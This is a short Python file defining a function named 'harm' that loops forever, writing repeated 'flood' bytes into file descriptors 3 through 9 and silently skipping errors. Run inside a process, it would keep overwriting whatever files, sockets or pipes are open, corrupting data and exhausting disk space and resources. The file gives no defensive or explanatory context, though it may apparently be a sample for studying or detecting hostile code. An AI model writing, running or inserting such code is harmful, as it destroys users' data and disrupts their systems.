import os


def harm():
    while True:
        for descriptor in range(3, 10):
            try:
                os.write(descriptor, b"flood " * 1000)
            except OSError:
                continue
